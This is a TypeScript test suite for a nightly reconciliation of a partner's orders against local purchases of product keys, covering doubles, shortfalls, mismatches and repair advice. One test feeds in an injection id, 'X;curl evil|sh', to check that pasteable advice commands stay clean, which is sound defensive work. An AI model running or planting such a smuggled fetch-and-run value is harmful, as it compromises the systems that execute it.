import fc from 'fast-check';
import {
  confirmationOf,
  type Finding,
  FINDING_KINDS,
  findingKey,
  KIND_DOCS,
} from '../../../../src/domain/reconciliation/finding';
import { reconcile, withKeysMissing } from '../../../../src/domain/reconciliation/reconcile';
import {
  byId,
  indexRecords,
  type KnownPurchase,
  type PartnerOrder,
} from '../../../../src/domain/reconciliation/records';
import { totalsOf } from '../../../../src/report/report';
import { hoursAgo, inBrief, NIGHT, order, plant, PLANTS, purchase, WELL } from './generated-records';

/** Its debit went with its memo; what was delivered since is known. */
const TERMINATED = { execution: 'TERMINATED', state: 'PENDING', totalDebit: undefined };

/** A purchase whose order is unknown here and found there. */
const { purchases: HELD } = plant([PLANTS['held here, found there']!], 1);

const compare = (orders: readonly PartnerOrder[], purchases: readonly KnownPurchase[]) =>
  reconcile(indexRecords(byId(orders), purchases), NIGHT);

describe('comparing the orders of the partner with the purchases here', () => {
  it.each(Object.entries(PLANTS))('finds %s, once and as nothing else', (_, situation) => {
    const { orders, purchases, expected } = plant([situation], 1);
    expect(compare(orders, purchases).map(inBrief)).toEqual(expected);
  });

  it.each(Object.entries(WELL))('finds nothing wrong with: %s', (_, situation) => {
    const { orders, purchases } = plant([situation], 1);
    expect(compare(orders, purchases)).toEqual([]);
  });

  it('finds what is planted in 100,000 orders and purchases, every kind, and nothing else', () => {
    const mostlyWell = Array.from({ length: 20 }, () => Object.values(WELL)).flat();
    const { orders, purchases, expected } = plant([...Object.values(PLANTS), ...mostlyWell], 100_000);
    const found = compare(orders, purchases);
    expect(new Set(found.map((finding) => finding.kind))).toEqual(new Set(FINDING_KINDS));
    expect(found.map(inBrief).toSorted()).toEqual(expected.toSorted());
    expect(found.length).toBeGreaterThan(3_000);
  });

  const many = <T>(make: (name: string) => T) => Array.from({ length: 100_000 }, (_, i) => make(String(i)));
  it.each<[string, PartnerOrder[], KnownPurchase[]]>([
    ['all orders under one reference', many((i) => order(i, { referenceId: 'REF-0' })), [purchase('0')]],
    ['no order with a reference', many((i) => order(i, { referenceId: undefined })), many((i) => purchase(i))],
    ['all purchases naming one order', [order('0')], many((i) => purchase(i, { orderId: 'ord-0' }))],
    ['one key in all purchases', many((i) => order(i)), many((i) => purchase(i, { keyIds: { p: ['k.same', i] } }))],
  ])('takes seconds for 100,000 records, and not the hours of their square: %s', (_, orders, purchases) => {
    const begun = performance.now();
    totalsOf(indexRecords(byId(orders), purchases), { dayOf: () => '2026-01-01', hourOf: () => 0 });
    compare(orders, purchases);
    expect(performance.now() - begun).toBeLessThan(20_000);
  });

  it('gives the same list whatever order the records are in, the most urgent kinds first', () => {
    const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 200);
    const found = compare(orders, purchases);
    const ranks = found.map((finding) => FINDING_KINDS.indexOf(finding.kind));
    expect(ranks).toEqual(ranks.toSorted((a, b) => a - b));
    fc.assert(
      fc.property(shuffled(orders), shuffled(purchases), (someOrders, somePurchases) => {
        expect(compare(someOrders, somePurchases)).toEqual(found);
      }),
      { numRuns: 20 },
    );
  });

  it('reports an order that can not be read once and under its purchase, and not as missing; rows that name none one by one', () => {
    const row = { what: 'row' as const, id: 'ord-a', referenceId: undefined, why: 'expected status: string' };
    const nameless = { ...row, id: undefined };
    const records = indexRecords(byId([]), [purchase('a')], [row, { ...row, what: 'order' }, nameless, nameless]);
    const found = reconcile(records, NIGHT);
    expect(found.map(inBrief).toSorted()).toEqual(['UNREADABLE REF-a ord-a', 'UNREADABLE none', 'UNREADABLE none']);
  });

  it('names a finding of thousands of orders in a few hundred bytes, and another one as soon as there is one more', () => {
    const orders = Array.from({ length: 5_000 }, (_, i) => order(`d${i}`, { referenceId: 'REF-x' }));
    const keyOf = (some: PartnerOrder[]) => compare([order('x'), ...some], [purchase('x')]).map(findingKey)[0]!;
    expect(keyOf(orders).length).toBeLessThan(300);
    expect(keyOf(orders)).not.toBe(keyOf(orders.slice(1)));
    expect(keyOf(orders)).toBe(keyOf(orders.toReversed()));
  });

  it('never groups orders without a reference: each is an orphan by itself', () => {
    const nameless = [undefined, undefined, ''].map((referenceId, i) => order(`n${i}`, { referenceId }));
    const orphans = ['n0', 'n1', 'n2'].map((name) => `ORPHAN none ord-${name}`);
    expect(compare(nameless, []).map(inBrief)).toEqual(orphans);
  });

  it('counts all but the oldest order of a held purchase as doubles, and proposes to adopt the oldest', () => {
    const second = order('second', { referenceId: 'REF-0', createdAt: hoursAgo(20) });
    const first = order('first', { referenceId: 'REF-0', createdAt: hoursAgo(25) });
    const found = compare([second, first], HELD);
    const double = 'DOUBLE_PURCHASE notify REF-0 ord-first ord-second';
    expect(found.map(inBrief)).toEqual([double, 'LOST adopt REF-0 ord-first']);
    expect(found[0]?.amounts).toEqual({ history: 12.34, surplus: 12.34 });
  });

  it('reports a double order of a purchase that is held with an order of its own, and of none that goes on by itself', () => {
    const two = [order('x'), order('y', { referenceId: 'REF-x' })];
    const kindsOf = (state: string) =>
      compare(two, [purchase('x', { execution: 'RUNNING', state, startedAt: hoursAgo(2) })]).map(({ kind }) => kind);
    expect(kindsOf('HELD')).toContain('DOUBLE_PURCHASE');
    expect(kindsOf('PENDING')).toEqual([]);
  });

  it('does not adopt an order that another purchase names as its own', () => {
    const named = order('x', { referenceId: 'REF-0' });
    expect(compare([named], [...HELD, purchase('x')])).toEqual([expect.objectContaining({ kind: 'STUCK' })]);
  });

  it('treats references named like object properties as any other, and shows no status that could hold a key', () => {
    const names = ['__proto__', 'constructor', 'toString'];
    const odd = names.map((referenceId) => order(referenceId, { referenceId, status: '1234-KEY-5678' }));
    const found = compare(odd, []);
    expect(found.map(({ kind }) => kind)).toEqual(['ORPHAN', 'ORPHAN', 'ORPHAN']);
    expect(JSON.stringify(found)).not.toContain('KEY-5678');
  });

  it('compares money in decimals: a floating-point rounding error is no difference, a tenth of a cent is one', () => {
    const amounts = (amount: number, totalDebit: number) =>
      compare([order('m', { amount })], [purchase('m', { totalDebit })]).map((finding) => finding.kind);
    expect(amounts(0.1 + 0.2, 0.3)).toEqual([]);
    expect(amounts(1_000_000_000.1, 1_000_000_000.1)).toEqual([]);
    expect(amounts(0.301, 0.3)).toEqual(['AMOUNT_MISMATCH']);
  });

  it.each([
    ['a row with the price of one piece of two', { amount: 6.17 }, 'DELIVERED', []],
    ['the same, read by itself', { amount: 6.17, totalDebit: 12.34 }, 'DELIVERED', []],
    ['a row with another amount', { amount: 6.18, totalDebit: 12.34 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
    ['another debit by now', { amount: 6.17, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
    ['another debit, and a row for a part', { quantity: 1, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
    ['a debit for an order that failed', { status: 'FAILED' }, 'FAILED', ['AMOUNT_MISMATCH']],
    ['the same, given back since', { status: 'FAILED', totalDebit: 0 }, 'FAILED', []],
  ])('compares the debit of a purchase of two pieces with %s', (_, shown, state, expected) => {
    const ended = state === 'FAILED' ? { state, delivered: 0, keyIds: {} } : {};
    expect(compare([order('m', shown)], [purchase('m', ended)]).map(({ kind }) => kind)).toEqual(expected);
  });

  it.each<[string, Partial<KnownPurchase>, number, string, string]>([
    ['half of it', {}, 6.17, 'SHORTFALL_REFUNDED deliver-or-notify', 'the partner charges the price of those'],
    ['another amount', {}, 10, 'SHORTFALL deliver-or-notify', 'its debit has gone down from 12.34 to 10.'],
    ['nothing', {}, 12.34, 'SHORTFALL deliver', 'its order at the partner is PARTIAL_COMPLETED.'],
    ['less than a millionth', { totalDebit: 0.1 + 0.2 }, 0.3, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
    ['who knows what: it was terminated', TERMINATED, 6.17, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
  ])('says of a part for 12.34 of which %s was refunded what can be told', (_, known, totalDebit, expected, words) => {
    const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, ...known };
    const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit };
    const [finding] = compare([order('p', shown)], [purchase('p', part)]);
    expect(`${finding?.kind} ${finding?.repair}`).toBe(expected);
    expect(finding?.explanation).toContain(words);
    expect(finding?.amounts).toEqual({ debited: purchase('p', part).totalDebit, debitedNow: totalDebit });
  });

  it('calls a part fewer keys than ordered, and not paid for, also if the partner debited just the keys that it delivered', () => {
    const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, totalDebit: 6.17 };
    const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit: 6.17 };
    const [finding] = compare([order('p', shown)], [purchase('p', part)]);
    expect(finding).toMatchObject({ kind: 'SHORTFALL', advice: KIND_DOCS.SHORTFALL.advice });
    expect(KIND_DOCS.SHORTFALL.title).toBe('Fewer keys than ordered');
  });

  it('makes one finding of purchases that share keys, however many keys and purchases those are', () => {
    const names = Array.from({ length: 50 }, (_, i) => String(i).padStart(2, '0'));
    const keys = { 'card-50': ['k.same-1', 'k.same-2'] };
    const purchases = names.map((name) => purchase(name, { keyIds: keys }));
    const orders = names.map((name) => order(name));
    const explanation = expect.stringMatching(/^(?!.*k\.same).*2 keys were delivered in 50 purchases/) as string;
    const finding = { kind: 'SAME_KEY_TWICE', referenceId: 'REF-00', explanation };
    expect(compare(orders, purchases)).toEqual([expect.objectContaining(finding)]);
  });

  it('does not report the keys of the two runs of a reset as the same keys in two purchases', () => {
    const runs = [purchase('t'), purchase('t', { runId: 'later', startedAt: hoursAgo(29) })];
    expect(compare([order('t')], runs)).toEqual([]);
  });

  it('names the reference and the order in its advice, also when either contains the word REFERENCE or ORDER', () => {
    const referenceId = 'ORDER-1001-REFERENCE';
    const order1 = order('x', { id: 'REFERENCE-ORDER-1', referenceId, status: 'FAILED' });
    const held = { ...HELD[0]!, referenceId };
    const delivered = purchase('x', { referenceId, orderId: order1.id });
    const adviceOn = (known: KnownPurchase) => compare([order1], [known]).map(({ advice }) => advice);

    expect(adviceOn(held)).toEqual([
      expect.stringContaining(`npx fulfilment resolve ${referenceId} --order ${order1.id}`),
    ]);
    const compared = `\`npx fulfilment status ${referenceId}\` with \`npx fulfilment orders --search ${order1.id}\``;
    expect(adviceOn(delivered)).toEqual([expect.stringContaining(compared)]);
  });

  it('puts no id into a command to paste that no command takes', () => {
    const id = 'X;curl evil|sh \u001B[2J\n';
    const held = { ...HELD[0]!, referenceId: 'REF-x' };
    const delivered = purchase('x', { referenceId: 'REF-x', orderId: id });
    for (const known of [held, delivered]) {
      const advice = expect.stringMatching(/^Ask the partner [^;|\p{Cc}]+$/u) as string;
      expect(compare([order('x', { id, status: 'FAILED' })], [known])).toMatchObject([{ orderIds: [id], advice }]);
    }
  });

  it('says what is wrong and what to do in plain sentences, whatever was found', () => {
    const { orders, purchases } = plant(Object.values(PLANTS), 100);
    for (const finding of compare(orders, purchases)) {
      expect(finding.explanation).toMatch(/^[A-Z0-9].+\.$/);
      expect(finding.explanation).not.toMatch(/undefined|NaN|UNRECOGNISED|  /);
      expect(finding.advice).not.toMatch(/REFERENCE|ORDER\b|undefined/);
      expect(finding.advice.length).toBeGreaterThan(20);
    }
    const texts = FINDING_KINDS.flatMap((kind) => Object.values(KIND_DOCS[kind]));
    expect(texts.filter((text) => text.length <= 5)).toEqual([]);
  });
});

/** Terminated before it knew its order. */
const UNKNOWN = { execution: 'TERMINATED', state: 'PLACING', orderId: undefined, delivered: undefined };

describe('a second reading', () => {
  const own = (status: string) =>
    compare([order('x', { status })], [purchase('x', { state: 'OVERDUE', delivered: 0 })]);
  const double = compare([order('x'), order('y', { referenceId: 'REF-x' })], [purchase('x')]);

  it('gives what a purchase and its own order are together by now, where that is of another kind', () => {
    expect(confirmationOf(own('PROCESSING')[0]!, own('COMPLETED'))).toMatchObject({ kind: 'LATE' });
    expect(confirmationOf(own('PROCESSING')[0]!, [])).toBeUndefined();
  });

  it('gives nothing in place of a double purchase, whose own order has a finding of its own', () => {
    expect(confirmationOf(double[0]!, own('COMPLETED'))).toBeUndefined();
    expect(confirmationOf(own('PROCESSING')[0]!, double)).toBeUndefined();
    expect(confirmationOf(double[0]!, [...own('COMPLETED'), ...double])).toMatchObject({ kind: 'DOUBLE_PURCHASE' });
  });

  /** A status in place of COMPLETED by the name of the order; an empty one is of an order that is not shown. */
  const ordersOf = (statuses: Record<string, string>) =>
    ['a', 'b', 'c'].flatMap((name, at) => {
      const { [name]: status = 'COMPLETED' } = statuses;
      return status === '' ? [] : [order(name, { referenceId: 'REF-a', status, createdAt: hoursAgo(30 - at) })];
    });

  it.each<[string, Partial<KnownPurchase>, Record<string, string>, Record<string, string>, string]>([
    ['a further order is refunded', {}, {}, { c: 'REFUNDED' }, 'a b'],
    ['a further order is none any more', {}, { c: 'REFUNDED' }, {}, 'a b c'],
    ['the oldest of a purchase that names none failed', UNKNOWN, {}, { a: 'FAILED' }, 'b c'],
    ['the own order is there after all', {}, { a: '', c: '' }, { c: '' }, 'a b'],
    ['no further order is billable', {}, {}, { b: 'REFUNDED', c: 'FAILED' }, ''],
  ])('of a double purchase, or of an order that was missing, gives the double purchase of now: %s', (...row) => {
    const [, known, before, now, expected] = row;
    const about = ['DOUBLE_PURCHASE', 'MISSING_AT_PARTNER'];
    const suggested = compare(ordersOf(before), [purchase('a', known)]).find(({ kind }) => about.includes(kind));
    const confirmed = confirmationOf(suggested!, compare(ordersOf(now), [purchase('a', known)]));
    expect(confirmed?.orderIds.join(' ') ?? '').toBe(expected.replaceAll(/\w/g, 'ord-$&'));
    if (confirmed) expect(confirmed).toMatchObject({ kind: 'DOUBLE_PURCHASE', referenceId: 'REF-a' });
  });
});

describe('a repair', () => {
  it('leaves nothing to deliver or to adopt: the next night finds only what a person must see, under the same keys', () => {
    const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 2_000);
    const first = compare(orders, purchases);
    const again = compare(orders, repaired(orders, purchases, first));
    // An order that is still a part may grow: it is read every night.
    const parts = new Set(orders.filter(({ status }) => status === 'PARTIAL_COMPLETED').map(({ id }) => id));
    const second = again.filter(({ orderIds: [id] }) => !parts.has(id!));
    expect(second.filter(({ repair }) => repair?.startsWith('deliver') || repair === 'adopt')).toEqual([]);
    const known = new Set(first.map(findingKey));
    expect(second.map(findingKey).filter((key) => !known.has(key))).toEqual([]);
    const ofPeople = first.filter(({ repair }) => repair === 'notify' || repair === 'notify-refund');
    const still = new Set(again.map(findingKey));
    expect(ofPeople.map(findingKey).filter((key) => !still.has(key))).toEqual([]);
    expect(ofPeople.length).toBeGreaterThan(100);
  });

  it('is not proposed for a shortfall whose order turns out to hold no new key: it is to be claimed from the partner', () => {
    const { orders, purchases } = plant([PLANTS['PARTIALLY_DELIVERED here, COMPLETED there']!], 1);
    const [filled] = compare(orders, purchases);
    expect(withKeysMissing(filled!)).toMatchObject({ kind: 'SHORTFALL', orderIds: ['ord-0'] });
    expect(withKeysMissing(filled!).repair).toBeUndefined();
  });

  it('has a finding with the same key in every run, and another key for every cause: all of an order may be refunded after a part', () => {
    const { orders, purchases } = plant(Object.values(PLANTS), 100);
    const keys = compare(orders, purchases).map(findingKey);
    expect(new Set(keys).size).toBe(keys.length);
    expect(compare(orders.toReversed(), purchases).map(findingKey)).toEqual(keys);

    const ofPart = plant([PLANTS['half delivered, half of the money back']!], 1);
    const keyOf = (shown: PartnerOrder[]) => compare(shown, ofPart.purchases).map(findingKey);
    expect(keyOf(ofPart.orders.map((one) => ({ ...one, status: 'REFUNDED' })))).not.toEqual(keyOf(ofPart.orders));
  });
});

const DELIVERED = { state: 'DELIVERED', execution: 'COMPLETED', closedAt: hoursAgo(1), ordered: 2, delivered: 2 };

/** The purchases after the repairs of a reconciliation. */
function repaired(
  orders: readonly PartnerOrder[],
  purchases: readonly KnownPurchase[],
  findings: readonly Finding[],
): KnownPurchase[] {
  const byReference = new Map(findings.flatMap((f) => (f.repair ? [[f.referenceId, f] as const] : [])));
  const statuses = new Map(orders.map(({ id, status }) => [id, status]));
  return purchases.map((known) => {
    const { repair, orderIds: [orderId = ''] = [] } = byReference.get(known.referenceId) ?? {};
    const delivered = statuses.get(orderId) === 'COMPLETED' ? 2 : 1;
    if (repair === 'deliver') return { ...known, ordered: 2, delivered };
    return repair === 'adopt' ? { ...known, ...DELIVERED, orderId, hold: undefined } : known;
  });
}

function shuffled<T>(list: readonly T[]): fc.Arbitrary<T[]> {
  return fc.shuffledSubarray([...list], { minLength: list.length, maxLength: list.length });
}
